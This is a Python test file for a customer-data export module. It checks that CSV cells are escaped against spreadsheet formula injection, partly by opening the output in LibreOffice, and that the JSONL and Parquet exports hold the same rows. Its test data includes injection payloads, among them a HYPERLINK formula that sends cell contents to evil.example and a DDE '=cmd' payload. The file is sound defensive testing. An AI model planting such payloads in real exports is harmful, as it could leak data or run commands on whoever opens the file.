"""T35: what customers' data looks like, it stays; a spreadsheet computes nothing of it, a program reads it exactly."""

import csv
import io
import subprocess
import tracemalloc
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from shutil import which
from typing import Any

import msgspec
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from suasion.exports.contents import Export
from suasion.exports.formats import FORMATS, Format, csv_cell, written

LEADS = ["=", "+", "-", "@", "\t", "\r"]
NASTY = [
    *(f"{lead}1+1" for lead in LEADS),
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\0=1+1",
    "\n=1+1",
    "＝1+1",
    "-3.5",
    'say "hi", she said',
    "two\r\nlines\nand a third",
    "a;=1+1",
    "' =1+1",
    "订单，=1+1",
    "",
]
NUMBERS = [-3.5, 0.1, 1e-7, -12, 3, 2**40, 1234567.25]
MOMENT = datetime(2026, 1, 5, 10, 0, 0, 250_000, tzinfo=UTC)

_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
_OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def table(rows: list[tuple[Any, ...]]) -> Export:
    """Give a table whose headers are as nasty as its cells."""
    return Export("made", (("=1+1", "text"), ("-amount", "number"), ("@when", "moment")), lambda: iter(rows))


def text(rows: list[tuple[Any, ...]], *, raw: bool = False) -> str:
    return b"".join(written(table(rows), "csv", raw=raw)).decode()


ROWS = [(cell, NUMBERS[at % len(NUMBERS)], MOMENT) for at, cell in enumerate(NASTY)]


def opened(content: str, folder: Path) -> list[ET.Element]:
    """Open a CSV file with LibreOffice and give its cells."""
    office = which("soffice")
    assert office, "LibreOffice opens the file in this test: apt-get install libreoffice-calc-nogui"
    (folder / "export.csv").write_bytes(content.encode())
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    command = [
        office,
        profile,
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
        str(folder),
        str(folder / "export.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return list(ET.parse(folder / "export.fods").iter(f"{_TABLE}table-cell"))


def formulas(cells: list[ET.Element]) -> list[str]:
    return [cell.attrib[f"{_TABLE}formula"] for cell in cells if f"{_TABLE}formula" in cell.attrib]


def numbers(cells: list[ET.Element]) -> set[float]:
    return {float(c.attrib[f"{_OFFICE}value"]) for c in cells if c.attrib.get(f"{_OFFICE}value-type") == "float"}


def test_a_spreadsheet_computes_nothing_and_numbers_stay_numbers(tmp_path: Path) -> None:
    cells = opened(text(ROWS), tmp_path)
    assert formulas(cells) == []
    assert numbers(cells) >= set(NUMBERS)
    assert -3.5 in numbers(cells)


def test_without_the_escape_it_would_compute(tmp_path: Path) -> None:
    assert len(formulas(opened(text(ROWS, raw=True), tmp_path))) >= 3, "else the test above could not fail"


def test_a_program_reads_exactly_what_is_stored() -> None:
    read = list(csv.reader(io.StringIO(text(ROWS, raw=True), newline="")))
    assert read[0] == ["=1+1", "-amount", "@when"]
    assert [row[0] for row in read[1:]] == NASTY
    assert [float(row[1]) for row in read[1:]] == [row[1] for row in ROWS]
    assert read[1][2] == "2026-01-05T10:00:00.250000Z"


@given(st.text())
def test_any_text_survives_and_the_escape_only_puts_an_apostrophe_in_front(cell: str) -> None:
    def back(written_cell: str) -> str:
        rows = list(csv.reader(io.StringIO(f"{written_cell},x\r\n", newline="")))
        return rows[0][0]

    assert back(csv_cell(cell, raw=True)) == cell
    escaped = back(csv_cell(cell))
    assert escaped in {cell, f"'{cell}"}
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))


@pytest.mark.parametrize("value", [float("nan"), float("inf")])
def test_the_escape_is_for_texts_only(value: float) -> None:
    assert csv_cell(-value).startswith(("-inf", "nan"))
    assert [csv_cell(None), csv_cell(True), csv_cell({"a": [1]})] == ["", "true", '"{""a"": [1]}"']


def test_every_format_holds_the_same_rows() -> None:
    kinds = (("name", "text"), ("amount", "number"), ("count", "whole"), ("when", "moment"), ("any", "value"))
    rows = [("=x", -3.5, 2, MOMENT, {"a": [1]}), (None, None, None, None, None), ("y", 0.0, 0, MOMENT, "text")]
    made = Export("made", kinds, lambda: iter(rows))  # type: ignore[arg-type]
    lines = [msgspec.json.decode(line) for line in b"".join(written(made, "jsonl")).splitlines()]
    assert lines[0] == {
        "name": "=x",
        "amount": -3.5,
        "count": 2,
        "when": "2026-01-05T10:00:00.250000Z",
        "any": {"a": [1]},
    }
    assert lines[1] == dict.fromkeys(lines[0])
    columns = pq.read_table(pa.BufferReader(b"".join(written(made, "parquet")))).to_pydict()
    assert columns["name"] == ["=x", None, "y"]
    assert columns["when"] == [MOMENT, None, MOMENT]
    assert columns["any"] == ['{"a": [1]}', None, "text"]
    assert columns["count"] == [2, None, 0]


@pytest.mark.parametrize("form", FORMATS)
def test_an_empty_table_is_a_whole_file(form: Format) -> None:
    found = b"".join(written(table([]), form))
    if form == "parquet":
        assert pq.read_table(pa.BufferReader(found)).num_rows == 0
    else:
        assert found.count(b"\n") == (1 if form == "csv" else 0)


@pytest.mark.parametrize("form", FORMATS)
def test_a_large_table_costs_no_more_memory_than_a_small_one(form: Format) -> None:
    def rows(count: int) -> Iterator[tuple[Any, ...]]:
        return ((f"customer {n}", n / 7, MOMENT) for n in range(count))

    def peak(count: int) -> int:
        made = Export("made", (("a", "text"), ("b", "number"), ("c", "moment")), lambda: rows(count))
        tracemalloc.start()
        size = sum(len(piece) for piece in written(made, form))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert size > count * 5
        return most

    peak(10)
    assert peak(60_000) < 1.5 * peak(10_000)


def test_closing_a_file_early_ends_the_read_behind_it() -> None:
    ended = []

    def rows() -> Iterator[tuple[Any, ...]]:
        try:
            for n in range(100_000):
                yield (str(n), n, MOMENT)
        finally:
            ended.append(True)

    pieces = written(Export("made", table([]).columns, rows), "csv")
    next(pieces)
    next(pieces)
    pieces.close()  # type: ignore[attr-defined]
    assert ended == [True]
